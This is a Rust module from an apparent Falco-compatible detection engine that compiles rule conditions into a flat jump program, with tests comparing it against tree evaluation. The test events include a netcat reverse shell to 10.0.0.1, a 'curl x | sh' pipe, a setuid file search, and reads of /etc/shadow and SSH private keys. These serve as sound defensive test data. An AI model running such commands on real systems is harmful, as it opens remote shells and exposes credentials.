//! Conditions compiled to one flat program of tests and jumps.
//!
//! Walking a condition tree costs a recursive call, a match and a pointer
//! chase per node. Here every rule's condition becomes straight-line code in
//! one array shared by all rules: a test evaluates one check and jumps to its
//! true or false target, so `and`, `or` and `not` cost nothing at run time
//! (they only decide the targets), and constants disappear. A macro used by
//! several rules keeps its memo slot: the first rule to need it evaluates it
//! and records the result, later ones jump on the recorded value.
//!
//! The tree ([`Node`]) stays the reference semantics: the program is
//! checked against it (see the tests).

use crate::context::Context;
use crate::eval::{Check, Memo, Node};
use std::collections::HashMap;

/// Jump target meaning "the condition holds".
const TRUE: u32 = u32::MAX;
/// Jump target meaning "the condition does not hold".
const FALSE: u32 = u32::MAX - 1;

#[derive(Debug, Clone, Copy)]
enum Instr {
    /// Evaluate a check, go to `t` or `f`.
    Test { check: u32, t: u32, f: u32 },
    /// A shared sub-condition: its recorded result decides, or run `body`
    /// (which records the result on its way out).
    Memo {
        slot: u32,
        t: u32,
        f: u32,
        body: u32,
    },
    /// Record a shared sub-condition's result and return to the use that
    /// ran it.
    Set { slot: u32, val: bool },
}

/// Every rule's condition as one program.
#[derive(Debug, Clone, Default)]
pub struct Program {
    code: Vec<Instr>,
    checks: Vec<Check>,
    /// Check index by the address of the tree's check (a check shared by
    /// inlined macros is stored once).
    seen: HashMap<usize, u32>,
    /// First instruction of each shared body, by memo slot.
    bodies: HashMap<u32, u32>,
    /// Memo slots the program uses (one more than the highest).
    slots: usize,
}

/// Where a condition starts in a [`Program`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Entry(u32);

impl Program {
    /// Add a condition; returns where it starts.
    pub fn add(&mut self, node: &Node) -> Entry {
        Entry(self.emit(node, TRUE, FALSE))
    }

    /// Instructions and distinct checks in the program.
    pub fn size(&self) -> (usize, usize) {
        (self.code.len(), self.checks.len())
    }

    /// Drop what was only needed while adding conditions.
    pub fn finish(&mut self) {
        self.seen = HashMap::new();
        self.bodies = HashMap::new();
        self.code.shrink_to_fit();
        self.checks.shrink_to_fit();
    }

    /// Emit `node` so that it continues at `t` when it holds, `f` when not;
    /// returns its first instruction (or `t`/`f` for a constant).
    fn emit(&mut self, node: &Node, t: u32, f: u32) -> u32 {
        match node {
            Node::Const(true) => t,
            Node::Const(false) => f,
            Node::Not(inner) => self.emit(inner, f, t),
            // Emitted last to first: each child knows where the next starts.
            Node::And(children) => children
                .iter()
                .rev()
                .fold(t, |next, child| self.emit(child, next, f)),
            Node::Or(children) => children
                .iter()
                .rev()
                .fold(f, |next, child| self.emit(child, t, next)),
            Node::Check(c) => {
                let key = &**c as *const Check as usize;
                let check = match self.seen.get(&key) {
                    Some(&i) => i,
                    None => {
                        let i = self.checks.len() as u32;
                        self.checks.push((**c).clone());
                        self.seen.insert(key, i);
                        i
                    }
                };
                self.push(Instr::Test { check, t, f })
            }
            Node::Shared(body, slot) => {
                self.slots = self.slots.max(*slot + 1);
                let slot = *slot as u32;
                let body = match self.bodies.get(&slot) {
                    Some(&at) => at,
                    None => {
                        let set_t = self.push(Instr::Set { slot, val: true });
                        let set_f = self.push(Instr::Set { slot, val: false });
                        let at = self.emit(body, set_t, set_f);
                        self.bodies.insert(slot, at);
                        at
                    }
                };
                self.push(Instr::Memo { slot, t, f, body })
            }
        }
    }

    fn push(&mut self, i: Instr) -> u32 {
        self.code.push(i);
        (self.code.len() - 1) as u32
    }

    /// Evaluate the condition at `entry`.
    pub fn eval(&self, entry: Entry, ctx: &dyn Context, memo: &mut Memo) -> bool {
        memo.ensure(self.slots);
        let mut pc = entry.0;
        loop {
            if pc >= FALSE {
                return pc == TRUE;
            }
            pc = match self.code[pc as usize] {
                Instr::Test { check, t, f } => {
                    if self.checks[check as usize].eval(ctx) {
                        t
                    } else {
                        f
                    }
                }
                Instr::Memo { slot, t, f, body } => match memo.get(slot as usize) {
                    Some(true) => t,
                    Some(false) => f,
                    None => {
                        memo.set_return(slot as usize, pc);
                        body
                    }
                },
                Instr::Set { slot, val } => {
                    memo.set(slot as usize, val);
                    memo.return_to(slot as usize)
                }
            };
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::context::EventOnly;
    use crate::Engine;
    use peregrine_event::{Event, EventData, EventKind, FileOp, Process, Syscall};

    fn open(comm: &str, path: &str, flags: u64, ret: i64) -> Event {
        Event {
            ts_ns: 1,
            kind: EventKind::Open,
            syscall: Some(Syscall::Openat),
            process: Process {
                pid: 10,
                comm: comm.into(),
                ..Process::default()
            },
            data: EventData::File(FileOp {
                ret,
                path: path.into(),
                raw_path: path.into(),
                flags,
                ..Default::default()
            }),
        }
    }

    /// Every rule of a file with nested macros, `not`, constants and shared
    /// sub-conditions gives the same answer as the tree, with one memo
    /// reused across rules as the engine does.
    #[test]
    fn program_agrees_with_the_tree() {
        let rules = "\
- macro: is_open\n  condition: evt.type in (open, openat)\n\
- macro: reads\n  condition: (is_open and evt.is_open_read = true and fd.num >= 0)\n\
- macro: etc\n  condition: (fd.name startswith /etc/ or fd.directory = /root)\n\
- macro: never\n  condition: (evt.num = 0)\n\
- rule: a\n  desc: d\n  output: o\n  priority: INFO\n  condition: reads and etc and not never\n\
- rule: b\n  desc: d\n  output: o\n  priority: INFO\n  condition: reads and not etc and not (proc.name in (cat, less) or fd.filename = x)\n\
- rule: c\n  desc: d\n  output: o\n  priority: INFO\n  condition: is_open and (not reads or (etc and not proc.name = vi))\n\
- rule: d\n  desc: d\n  output: o\n  priority: INFO\n  condition: is_open and not (not etc and not reads)\n";
        let e = Engine::from_str("t.yaml", rules).unwrap_or_else(|e| panic!("{e}"));
        let mut p = Program::default();
        let entries: Vec<Entry> = e.rules().iter().map(|r| p.add(&r.condition)).collect();
        let mut memo = e.memo();
        let mut seen = [0usize; 2];
        for comm in ["cat", "vi", "sh"] {
            for path in ["/etc/shadow", "/root/x", "/tmp/x", "/etc/x"] {
                for (flags, ret) in [(0, 3), (1, 3), (0, -2)] {
                    let ev = open(comm, path, flags, ret);
                    let ctx = EventOnly(&ev);
                    memo.reset();
                    for (r, entry) in e.rules().iter().zip(&entries) {
                        let want = r.condition.eval(&ctx);
                        seen[want as usize] += 1;
                        assert_eq!(
                            p.eval(*entry, &ctx, &mut memo),
                            want,
                            "{} {comm} {path}",
                            r.name
                        );
                    }
                }
            }
        }
        assert!(
            seen[0] > 10 && seen[1] > 10,
            "both outcomes exercised: {seen:?}"
        );
    }

    /// Falco's three files: the program (each macro body emitted once, a
    /// subroutine) agrees with the tree on every rule, with the memo shared
    /// across rules as the engine shares it, and stays smaller than the
    /// rules expanded.
    #[test]
    fn program_agrees_with_the_tree_on_falcos_files() {
        use peregrine_event::Exec;
        let dir =
            std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../rules/falco-upstream");
        let files = [
            "falco_rules.yaml",
            "falco-incubating_rules.yaml",
            "falco-sandbox_rules.yaml",
        ];
        let paths: Vec<_> = files.iter().map(|f| dir.join(f)).collect();
        let e = Engine::from_files(&paths).unwrap_or_else(|e| panic!("{e}"));
        let mut p = Program::default();
        let entries: Vec<Entry> = e.rules().iter().map(|r| p.add(&r.condition)).collect();
        let exec = |comm: &str, exe: &str, args: &[&str]| Event {
            ts_ns: 1,
            kind: EventKind::Exec,
            syscall: Some(Syscall::Execve),
            process: Process {
                pid: 10,
                comm: comm.into(),
                ..Process::default()
            },
            data: EventData::Exec(Exec {
                filename: exe.into(),
                exe: exe.into(),
                args: args.iter().map(|a| a.to_string()).collect(),
                ..Exec::default()
            }),
        };
        let mut events = vec![
            exec("bash", "/bin/bash", &["bash", "-i"]),
            exec(
                "nc",
                "/usr/bin/nc",
                &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
            ),
            exec("sh", "/bin/sh", &["sh", "-c", "curl x | sh"]),
            exec("find", "/usr/bin/find", &["find", "/", "-perm", "-4000"]),
        ];
        for comm in ["cat", "sshd", "python3"] {
            for path in [
                "/etc/shadow",
                "/root/.ssh/id_rsa",
                "/usr/bin/x",
                "/dev/shm/x",
                "/proc/1/mem",
            ] {
                for flags in [0, 1, 0o101] {
                    events.push(open(comm, path, flags, 3));
                }
            }
        }
        let mut memo = e.memo();
        let mut tree_memo = e.memo();
        let mut hits = 0;
        for ev in &events {
            let ctx = EventOnly(ev);
            memo.reset();
            tree_memo.reset();
            for (r, entry) in e.rules().iter().zip(&entries) {
                let want = r.condition.eval_memo(&ctx, &mut tree_memo);
                hits += want as usize;
                assert_eq!(p.eval(*entry, &ctx, &mut memo), want, "{}", r.name);
            }
        }
        assert!(hits > 5, "some rules match: {hits}");
        let (code, checks) = p.size();
        assert!(
            code < 20_000 && checks < 5_000,
            "{code} instructions, {checks} checks"
        );
    }
}
